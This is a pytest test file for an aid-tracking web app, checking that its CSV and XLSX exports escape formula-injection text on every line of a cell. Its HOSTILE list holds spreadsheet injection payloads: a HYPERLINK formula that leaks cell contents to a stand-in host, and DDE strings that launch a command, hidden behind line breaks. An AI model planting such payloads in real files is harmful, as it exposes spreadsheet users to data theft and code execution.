"""Cells that a spreadsheet would run as formulas are exported inert, in CSV and XLSX, on every line of a cell.

A field may hold a bare carriage return or a newline, and the line after it would start a forged row in a reader
that splits lines itself. So every CSV field holding a line break is quoted (RFC 4180, CRLF rows), and every line
of a cell that would start a formula gets the apostrophe too. Read back three ways: Python's csv module (what a
careful reader sees: the text, apostrophes included), openpyxl, and a naive ``splitlines()`` reader.
"""

import csv
import datetime
import io

import pytest
from openpyxl import load_workbook

from aidtrack.agreements.models import Agreement
from aidtrack.api.renderers import FORMULA_STARTS, escape_formula
from aidtrack.areas.services import area_create
from aidtrack.geo.models import AdminArea, AdminLevel
from aidtrack.incidents.services import incident_review
from aidtrack.violence.models import ConflictEvent
from tests.api.conftest import report
from tests.factories import OrganizationFactory, PartyFactory

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
# Each breaks a line its own way before a formula; the last two also break lines for splitlines() readers.
HOSTILE = [
    f"Checkpoint\r{FORMULA}",
    "Checkpoint\n+cmd|' /C calc'!A0",
    "Checkpoint\r\n-2+3+cmd|' /C calc'!A0",
    "Checkpoint\r\r@SUM(1+1)*cmd|' /C calc'!A0",
    f'Checkpoint\n"{FORMULA}',
    f"Checkpoint\u2028{FORMULA}",
    f"Checkpoint\x0b\t{FORMULA}",
]


def test_escape_formula_prefixes_formula_text_but_not_numbers():
    assert escape_formula(FORMULA) == "'" + FORMULA
    assert escape_formula("+963 11 000") == "'+963 11 000"
    assert escape_formula("@SUM(A1)") == "'@SUM(A1)"
    assert escape_formula("-5") == "-5" and escape_formula(-5) == -5
    assert escape_formula("Madaya") == "Madaya"


def test_escape_formula_neutralises_every_line_of_a_cell():
    assert escape_formula(f"Checkpoint\r{FORMULA}") == f"Checkpoint\r'{FORMULA}"
    assert escape_formula(f"Checkpoint\r\n{FORMULA}\n-3") == f"Checkpoint\r\n'{FORMULA}\n-3"
    assert escape_formula(f'Note\n"{FORMULA}') == f"Note\n'\"{FORMULA}"
    assert escape_formula("first line\n\nthird line") == "first line\n\nthird line"


def starts_formula(text: str) -> bool:
    """What a spreadsheet could run: text (spaces and quotes aside) starting with a formula character."""
    body = text.lstrip(' "')
    if not body.startswith(FORMULA_STARTS):
        return False
    try:
        float(body)
    except ValueError:
        return True
    return False


def assert_csv_inert(content: bytes, expected_rows: int, hostile_column: str):
    text = content.decode("utf-8")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == expected_rows + 2, "a field's line break started a row of its own"
    values = [row[rows[0].index(hostile_column)] for row in rows[2:]]
    for hostile in HOSTILE:
        assert any(value.startswith(escape_formula(hostile)) for value in values), hostile
    for line in text.splitlines():
        assert not starts_formula(line), f"a naive reader sees a line starting a formula: {line!r}"
        for cell in next(csv.reader([line]), []):
            assert not starts_formula(cell), f"a naive reader sees a formula cell: {cell!r}"


def assert_xlsx_inert(content: bytes):
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    for cell in cells:
        if isinstance(cell.value, str):
            for line in cell.value.splitlines():
                assert not starts_formula(line), f"an XLSX cell has a line starting a formula: {cell.value!r}"
    return [cell.value for cell in cells]


def test_csv_and_xlsx_exports_of_incidents_are_inert_on_every_line(world, client_for, reporter, reviewer, org_a):
    for hostile in HOSTILE:
        incident_review(incident=report(reporter, org_a, hostile), by=reviewer, outcome="verified")
    for role in ("anonymous", "reporter_a"):
        client = client_for(role)
        expected = len(client.get("/api/v1/incidents/?search=Checkpoint").json()["results"])
        assert expected >= len(HOSTILE)
        response = client.get("/api/v1/incidents/?format=csv&search=Checkpoint")
        assert_csv_inert(response.content, expected, "title")
        values = assert_xlsx_inert(client.get("/api/v1/incidents/?format=xlsx&search=Checkpoint").content)
        assert escape_formula(HOSTILE[1]) in values, values


def test_a_control_character_in_a_field_does_not_break_the_workbook(world, client_for, reporter, reviewer, org_a):
    incident_review(
        incident=report(reporter, org_a, "Bell\x07 and null-ish \x1f text"), by=reviewer, outcome="verified"
    )
    response = client_for("anonymous").get("/api/v1/incidents/?format=xlsx")
    assert response.status_code == 200
    values = assert_xlsx_inert(response.content)
    assert "Bell\ufffd and null-ish \ufffd text" in values


@pytest.fixture
def hostile_everywhere(world, site_admin):
    """A hostile name in a record of every list the API exports."""
    for n, hostile in enumerate(HOSTILE):
        OrganizationFactory(name=f"{hostile} {n}", acronym=hostile[:30])
        PartyFactory(name=f"{hostile} {n}", short_name=hostile[:60])
        AdminArea.objects.create(
            pcode=f"C9{n:03d}", level=AdminLevel.COMMUNITY, name_en=hostile, parent=world.subdistrict
        )
        area_create(by=site_admin, name_en=f"{hostile} {n}")
        Agreement.objects.create(
            name=f"{hostile} {n}",
            summary=hostile,
            starts_at=datetime.datetime(2016, 9, 12, tzinfo=datetime.UTC),
        )
        ConflictEvent.objects.create(
            event_id=f"SYR{n}",
            event_date=datetime.date(2016, 9, 19),
            event_type=hostile,
            actor1=hostile,
            latitude=33.5,
            longitude=36.5,
        )


@pytest.mark.parametrize(
    "path,column,rows",
    [
        ("/api/v1/organizations/?search=Checkpoint", "name", len(HOSTILE)),
        ("/api/v1/parties/?search=Checkpoint", "name", len(HOSTILE)),
        ("/api/v1/admin-areas/?search=Checkpoint", "name_en", len(HOSTILE)),
        ("/api/v1/areas/?search=Checkpoint", "name_en", len(HOSTILE)),
        ("/api/v1/agreements/", "summary", len(HOSTILE) + 1),
        ("/api/v1/conflict-events/", "event_type", len(HOSTILE)),
        ("/api/v1/statistics/conflict-events-by-month/", "event_type", len(HOSTILE)),
    ],
)
def test_every_csv_the_api_writes_is_inert_on_every_line(hostile_everywhere, client_for, path, column, rows):
    client = client_for("anonymous")
    separator = "&" if "?" in path else "?"
    response = client.get(f"{path}{separator}format=csv")
    assert response.status_code == 200, response.content
    assert_csv_inert(response.content, rows, column)
    assert_xlsx_inert(client.get(f"{path}{separator}format=xlsx").content)
